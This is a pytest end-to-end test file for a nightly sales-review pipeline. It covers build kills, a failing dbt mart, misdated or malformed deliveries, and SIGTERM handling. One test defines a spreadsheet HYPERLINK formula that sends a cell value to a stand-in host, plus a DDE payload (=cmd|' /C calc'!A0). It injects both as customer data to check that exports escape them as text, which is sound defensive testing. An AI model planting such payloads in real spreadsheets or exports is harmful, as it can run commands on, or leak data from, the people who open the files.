"""Safe nights, end to end: every fault ends with the new night fully published, or the last good night
exactly as it was, with one clear message, and the next build recovers by itself.

Each test copies the small company built once per session (tests/conftest.py: 60 days up to Thursday
2026-11-19, scale 0.3) and runs `salesreview` in fresh processes, as cron or an operator would, with
the project's Dagster instance settings (storage under the test's folder). What a reader sees is the
published warehouse file and every file of the published site, compared byte for byte.
"""

from __future__ import annotations

import csv
import io
import re
import shutil
import signal
import sqlite3
import subprocess
import sys
import time
import zipfile
from datetime import date, timedelta
from pathlib import Path

import duckdb
import pytest
from conftest import REPO_ROOT, copy_delivery_day, isolated_env
from openpyxl import Workbook, load_workbook

from pipelines.lib.landing import count_csv_rows, write_manifest
from pipelines.lib.release import running_build
from quality.contract import load_contract

pytestmark = pytest.mark.e2e

CONTRACT = load_contract()
DAY_61 = "2026-11-20"
SUNDAY = "2026-11-22"
HYPERLINK = '=HYPERLINK("http://x/?"&A2,"click")'
DDE = "=cmd|' /C calc'!A0"


# ---------------------------------------------------------------------------------------- helpers


def published(root: Path) -> dict[str, bytes]:
    """Every byte a reader sees: the warehouse file and each site file."""
    site = root / "site"
    files = {"warehouse.duckdb": (root / "warehouse.duckdb").read_bytes()}
    files |= {f"site/{p.relative_to(site)}": p.read_bytes() for p in sorted(site.rglob("*")) if p.is_file()}
    return files


def query(root: Path, sql: str) -> list[tuple]:
    con = duckdb.connect(str(root / "warehouse.duckdb"), read_only=True)
    try:
        return con.execute(sql).fetchall()
    finally:
        con.close()


def as_of(root: Path) -> date:
    return query(root, "select as_of_date from marts.warehouse_as_of")[0][0]


def run_status(root: Path) -> dict[str, str]:
    """run id -> status, straight from the Dagster instance's run storage."""
    with sqlite3.connect(root / "dagster" / "history" / "runs.db") as con:
        return dict(con.execute("select run_id, status from runs").fetchall())


def start_build(root: Path, log: Path) -> subprocess.Popen:
    with open(log, "w") as out:
        return subprocess.Popen(
            [sys.executable, "-m", "pipelines.cli", "build"],
            cwd=REPO_ROOT,
            env=isolated_env(root),
            stdout=out,
            stderr=subprocess.STDOUT,
        )


def descendants(pid: int) -> dict[int, str]:
    """pid -> command line of every process below `pid` (read from /proc)."""
    children: dict[int, list[int]] = {}
    for stat in Path("/proc").glob("[0-9]*/stat"):
        try:
            fields = stat.read_text().rsplit(")", 1)[1].split()
        except OSError:
            continue
        children.setdefault(int(fields[1]), []).append(int(stat.parent.name))
    found, frontier = {}, [pid]
    while frontier:
        for child in children.get(frontier.pop(), []):
            try:
                found[child] = (
                    (Path("/proc") / str(child) / "cmdline").read_bytes().replace(b"\0", b" ").decode()
                )
            except OSError:
                continue
            frontier.append(child)
    return found


def wait_for_descendant(build: subprocess.Popen, needle: str, timeout: float = 300) -> dict[int, str]:
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        tree = descendants(build.pid)
        if any(needle in command for command in tree.values()):
            return tree
        assert build.poll() is None, f"the build ended before {needle!r} started"
        time.sleep(0.1)
    raise AssertionError(f"no {needle!r} below the build within {timeout} s")


def kill_9(build: subprocess.Popen, tree: dict[int, str]) -> None:
    """kill -9 the build, then check that no process it started outlives it."""
    build.send_signal(signal.SIGKILL)
    build.wait(timeout=30)
    deadline = time.monotonic() + 15
    while time.monotonic() < deadline:
        alive = {pid: command for pid, command in tree.items() if Path(f"/proc/{pid}").exists()}
        alive = {pid: c for pid, c in alive.items() if "(zombie)" not in c and _state(pid) != "Z"}
        if not alive:
            return
        time.sleep(0.2)
    raise AssertionError(f"processes outlived the killed build: {alive}")


def _state(pid: int) -> str:
    try:
        return Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[0]
    except OSError:
        return "gone"


def rewrite(path: Path, edit) -> None:
    with open(path, encoding="utf-8", newline="") as f:
        rows = list(csv.reader(f))
    with open(path, "w", encoding="utf-8", newline="") as f:
        csv.writer(f, lineterminator="\n").writerows(edit(rows))


def deliver_customers_named_like_formulas(root: Path, source: Path, day: str) -> None:
    """Day 61's customer extract renames every customer to a spreadsheet formula (each name unique, so
    they are not duplicates of each other) and every contact to a DDE payload."""
    latest: dict[str, list[str]] = {}
    header: list[str] = []
    for path in sorted((source / "crm" / "customers").glob("*.csv")):
        if path.stem > day:
            continue
        with open(path, encoding="utf-8", newline="") as f:
            rows = list(csv.reader(f))
        header = rows[0]
        for row in rows[1:]:
            latest[row[0]] = row
    name, contact, updated = (
        header.index("customer_name"),
        header.index("contact_name"),
        header.index("updated_at"),
    )
    for customer_id, row in latest.items():
        row[name] = HYPERLINK.replace("click", customer_id)
        row[contact] = DDE
        row[updated] = f"{day} 09:00:00"
    rewrite(root / "landing" / "crm" / "customers" / f"{day}.csv", lambda rows: [header, *latest.values()])
    write_manifest(root / "landing", CONTRACT, "crm", day)


# ---------------------------------------------------------------------------------------- kills


def test_killed_builds_leave_the_published_night_and_the_next_build_recovers_by_itself(company, salesreview):
    """kill -9 during dbt, then kill -9 during the packs: readers keep the last good night byte for byte,
    no process outlives its build, and the next plain `salesreview build` publishes the new night. A
    second build started while one runs is told so at once. The new night carries customers named
    like spreadsheet formulas: the verification files must hold them as text, never as formulas."""
    root, source = company
    before = published(root)
    # Friday to Sunday: the week of 2026-11-16 is complete, so the build issues its verification sample.
    for day in ("2026-11-20", "2026-11-21", SUNDAY):
        copy_delivery_day(source, root / "landing", day)
    deliver_customers_named_like_formulas(root, source, SUNDAY)

    # 1. kill -9 while dbt runs; a second build meanwhile exits at once, naming the running one.
    build = start_build(root, root / "build-1.log")
    tree = wait_for_descendant(build, "dbt build")
    started = time.monotonic()
    second = salesreview(["build"], root)
    assert time.monotonic() - started < 30
    assert second.returncode == 75, second.stdout + second.stderr
    assert f"another build is running: salesreview build (process {build.pid} on " in second.stderr
    assert re.search(r"started \d{4}-\d\d-\d\dT\d\d:\d\d:\d\d", second.stderr)
    kill_9(build, tree)
    assert published(root) == before
    dead_run = next(r for r, status in run_status(root).items() if status == "STARTED")

    # 2. The next build recovers (its log says so) and is itself killed while it renders the packs.
    build = start_build(root, root / "build-2.log")
    tree = wait_for_descendant(build, "reports.renderer --worker")
    assert run_status(root)[dead_run] == "FAILURE", "the dead run is marked failed by the next build"
    kill_9(build, tree)
    assert published(root) == before, "not even the verification files of the new week are published"

    # 3. A plain build, no manual step: recovers from the second kill and publishes the new night.
    result = salesreview(["build"], root)
    assert result.returncode == 0, result.stdout[-4000:] + result.stderr[-4000:]
    assert "recovered: removed the unfinished release of a build that did not end" in result.stdout
    assert "had died without ending: marked as failed" in result.stdout
    assert as_of(root) == date(2026, 11, 22)
    assert set(run_status(root).values()) == {"SUCCESS", "FAILURE"}
    releases = root / "releases"
    assert not (releases / "building").exists()
    assert not list(root.glob(".site-render-*")) and not list(releases.rglob(".site-render-*"))

    # The formula-named customers: text in both files, never a formula.
    folder = root / "site" / "verification" / "2026-W47"
    csv_text = (folder / f"verification_{folder.name}_all.csv").read_text(encoding="utf-8-sig")
    rows = list(csv.reader(io.StringIO(csv_text)))
    assert len(rows) > 1
    customer, contact = rows[0].index("客户 Customer"), rows[0].index("联系人 Contact")
    for row in rows[1:]:
        assert row[customer].startswith("'=HYPERLINK(") and row[contact] == "'" + DDE
    workbook_path = folder / f"verification_{folder.name}_all.xlsx"
    sheet = load_workbook(workbook_path).worksheets[0]
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
    assert sheet.cell(row=2, column=customer + 1).value.startswith("=HYPERLINK(")  # the name, as text
    with zipfile.ZipFile(workbook_path) as xlsx:
        assert all(b"<f>" not in xlsx.read(n) for n in xlsx.namelist() if n.startswith("xl/worksheets/"))


# ---------------------------------------------------------------------------------------- a failing mart


def test_a_failing_mart_leaves_every_mart_and_every_site_file_unchanged(company, salesreview, tmp_path):
    root, source = company
    project = tmp_path / "dbt_project"
    shutil.copytree(REPO_ROOT / "dbt_project", project, ignore=shutil.ignore_patterns("target", "logs"))
    mart = project / "models" / "marts" / "kpi" / "fct_attainment_weekly.sql"
    sql = mart.read_text(encoding="utf-8")
    mart.write_text(
        sql.replace(
            "    select\n        rep_id,\n", "    select\n        rep_id,\n        no_such_column,\n", 1
        )
    )
    assert "no_such_column" in mart.read_text(encoding="utf-8")
    env = {"SRW_DBT_PROJECT_DIR": str(project)}
    assert salesreview(["prepare"], root, **env).returncode == 0
    before = published(root)
    copy_delivery_day(source, root / "landing", DAY_61)

    result = salesreview(["build"], root, **env)

    assert result.returncode == 1, result.stdout[-4000:]
    assert "nightly build FAILED" in result.stdout
    assert (
        "dbt build failed" in result.stdout
        and 'Referenced column "no_such_column" not found' in result.stdout
    )
    assert "Traceback" not in result.stdout + result.stderr
    assert published(root) == before  # the warehouse file (every mart in it) and every site file
    assert as_of(root) == date(2026, 11, 19)
    assert not (root / "releases" / "building").exists(), "the failed build cleaned up after itself"


# ---------------------------------------------------------------------------------------- deliveries


def test_a_misdated_delivery_is_refused_and_remove_day_undoes_a_loaded_day(company, salesreview):
    root, source = company
    landing = root / "landing"
    before = published(root)
    # The exporter wrote a complete day with next year's date.
    future = (date.today() + timedelta(days=365)).isoformat()
    for system in CONTRACT.systems:
        for entity in CONTRACT.entities_of(system):
            target = landing / CONTRACT.file_path(system, entity.name, future)
            shutil.copyfile(source / CONTRACT.file_path(system, entity.name, DAY_61), target)
        write_manifest(landing, CONTRACT, system, future)

    result = salesreview(["build"], root)

    assert result.returncode == 1
    for system in CONTRACT.systems:
        message = f"{system} {future}: the extract date is after today ("
        assert result.stdout.count(message) == 1, result.stdout[-3000:]
        assert f"`salesreview remove-day --system {system} --date {future}`" in result.stdout
    assert "missing" not in result.stdout, "no day is demanded because of the misdated one"
    assert published(root) == before

    # The operator takes the misdated delivery away, and the last day too (say it was wrong as well);
    # the last command rebuilds and publishes.
    for system in CONTRACT.systems:
        done = salesreview(["remove-day", "--system", system, "--date", future, "--no-build"], root)
        assert done.returncode == 0, done.stdout + done.stderr
    assert (
        salesreview(["remove-day", "--system", "crm", "--date", "2026-11-19", "--no-build"], root).returncode
        == 0
    )
    rows_of_day = {
        e.raw_table: n
        for e in CONTRACT.entities
        for (n,) in query(root, f"select count(*) from {e.raw_table} where _extract_date = date '2026-11-19'")
    }
    result = salesreview(
        ["remove-day", "--system", "erp", "--date", "2026-11-19", "--reason", "wrong day"], root
    )

    assert result.returncode == 0, result.stdout[-4000:] + result.stderr[-4000:]
    assert as_of(root) == date(2026, 11, 18)
    for e in CONTRACT.entities:
        assert query(root, f"select count(*) from {e.raw_table} where _extract_date = date '2026-11-19'") == [
            (0,)
        ]
    removed = query(
        root,
        "select system, extract_date, rows_removed, reason from raw_meta.removed_deliveries order by 1, 2",
    )
    crm_rows = sum(n for t, n in rows_of_day.items() if t.startswith("raw_crm"))
    erp_rows = sum(n for t, n in rows_of_day.items() if t.startswith("raw_erp"))
    assert crm_rows > 0 and erp_rows > 0
    future_day = date.fromisoformat(future)
    assert removed == [  # the misdated day was never loaded: its removal is recorded with no rows
        ("crm", date(2026, 11, 19), crm_rows, None),
        ("crm", future_day, 0, None),
        ("erp", date(2026, 11, 19), erp_rows, "wrong day"),
        ("erp", future_day, 0, None),
    ]
    assert not list(landing.rglob(f"{future}.*")) and not list(landing.rglob("2026-11-19.*"))
    kept = sorted(p.name for p in (root / "archive" / "removed").rglob("*.json"))
    assert kept == sorted([f"{future}.json"] * 2 + ["2026-11-19.json"] * 2), "the originals are kept"
    assert not (root / "releases" / "pending_removals.json").read_text(encoding="utf-8").strip("[]\n ")


def test_half_a_delivery_never_loads_and_every_problem_is_listed_once(company, salesreview):
    """Contract errors in CRM files (more bad rows than may be set aside), a file whose content no longer
    matches the ERP manifest, and files that are not what the contract says, all in the day's delivery:
    nothing of the day loads, and the message lists each problem once, without a stack trace."""
    root, source = company
    landing = root / "landing"
    before = published(root)
    copy_delivery_day(source, landing, DAY_61)

    def amount_abc(rows):  # in every row: more than the 5% of rows that may be set aside
        for row in rows[1:]:
            row[rows[0].index("amount")] = "abc"
        return rows

    def nul_in_a_name(rows):  # in one row: reps is a snapshot, no row of it may be set aside
        column = rows[0].index("rep_name")
        rows[1][column] = rows[1][column][:2] + "\x00" + rows[1][column][2:]
        return rows

    rewrite(landing / "crm" / "opportunities" / f"{DAY_61}.csv", amount_abc)
    opportunities = count_csv_rows(landing / "crm" / "opportunities" / f"{DAY_61}.csv")
    rewrite(landing / "crm" / "reps" / f"{DAY_61}.csv", nul_in_a_name)
    activities = landing / "crm" / "activities" / f"{DAY_61}.csv"
    activities.write_bytes(
        activities.read_text(encoding="utf-8").encode("gb18030")
    )  # Excel's "CSV" on Windows
    feedback = landing / "crm" / "feedback" / f"{DAY_61}.csv"
    with open(feedback, "a", encoding="utf-8") as f:
        f.write('F9999999,C000001,,2026-11-20,5,服务,"' + "长" * 1_700_000 + '"\n')  # a 5 MB comment
    workbook = Workbook()
    with open(landing / "crm" / "leads" / f"{DAY_61}.csv", encoding="utf-8") as f:
        for row in csv.reader(f):
            workbook.active.append(row)
    workbook.save(landing / "crm" / "leads" / f"{DAY_61}.csv")  # an .xlsx under the .csv name
    write_manifest(landing, CONTRACT, "crm", DAY_61)
    with open(landing / "erp" / "invoices" / f"{DAY_61}.csv", "a", encoding="utf-8") as f:
        f.write("\n")  # changed after the ERP manifest was written

    result = salesreview(["build"], root)

    output = result.stdout + result.stderr
    assert result.returncode == 1, output[-4000:]
    assert "Traceback" not in output
    for once in (
        f"crm: 1 new delivery refused ({DAY_61})",
        f"crm/opportunities/{DAY_61}.csv: {opportunities} problem(s)",
        "row 1 (line 2): 'abc'",
        f"{opportunities} of {opportunities} rows (100.0%) break the contract, more than the 5% allowed",
        f"crm/reps/{DAY_61}.csv: 1 problem(s)",
        "column rep_name: contains a control character (U+0000)",
        f"crm/activities/{DAY_61}.csv: 1 problem(s)",
        "it looks like GBK/GB18030",
        f"crm/leads/{DAY_61}.csv: 1 problem(s)",
        "it is an Excel workbook (.xlsx) saved under a .csv name",
        f"crm/feedback/{DAY_61}.csv: 1 problem(s)",
        "bytes (5.1 MB) long, more than the 2,000,000 bytes the CSV reader accepts in one line",
        f"erp: 1 new delivery refused ({DAY_61})",
        f"erp {DAY_61}: incomplete delivery: erp/invoices/{DAY_61}.csv: its SHA-256 is ",
    ):
        assert output.count(once) == 1, (once, output[-6000:])
    assert "not valid UTF-8" not in output, "the GBK file is named once, not line by line"
    assert published(root) == before
    for entity in CONTRACT.entities:
        assert query(root, f"select count(*) from {entity.raw_table} where _extract_date = '{DAY_61}'") == [
            (0,)
        ]


def test_a_night_without_any_delivery_fails_with_one_message_per_system(company, salesreview):
    root, source = company
    before = published(root)
    for path in source.rglob(f"{DAY_61}.csv"):  # the exports ran, but no manifest was written
        dest = root / "landing" / path.relative_to(source)
        shutil.copyfile(path, dest)

    result = salesreview(["build"], root)

    assert result.returncode == 1
    assert "2 problem(s):" in result.stdout
    for system, files in (("crm", 8), ("erp", 5)):
        assert (
            result.stdout.count(f"\n[{1 if system == 'crm' else 2}] {system}: nothing new was delivered") == 1
        )
        assert f"files without a manifest (export not finished?): {DAY_61} ({files} file(s))" in result.stdout
    assert published(root) == before


def test_an_as_of_date_before_the_first_extract_is_named(company, salesreview):
    root, _ = company
    result = salesreview(["build", "--as-of", "2020-01-01"], root)
    assert result.returncode == 1
    assert (
        "no extract exists on or before 2020-01-01: the first extract loaded is 2026-09-21. "
        "Choose an as-of date on or after the first extract." in result.stdout
    )
    assert "not_null" not in result.stdout and "Traceback" not in result.stdout + result.stderr


def test_sigterm_ends_a_build_cleanly(company):
    root, source = company
    before = published(root)
    copy_delivery_day(source, root / "landing", DAY_61)
    build = start_build(root, root / "build.log")
    tree = wait_for_descendant(build, "dbt build")
    build.send_signal(signal.SIGTERM)
    assert build.wait(timeout=60) == 130
    said = (root / "build.log").read_text(encoding="utf-8")
    # in dbt; or, when the signal's exception was lost (raised in a garbage-collection callback), when
    # the build reaches publishing (release/assets.py)
    assert re.search(
        r"nightly build interrupted in (sales_review_dbt_assets|release__published) after ", said
    )
    assert "nothing was published" in said
    assert not any(Path(f"/proc/{pid}").exists() and _state(pid) != "Z" for pid in tree)
    assert published(root) == before
    assert not (root / "releases" / "building").exists()
    assert running_build(root / "releases" / "build.lock") is None, "the lock is free again"
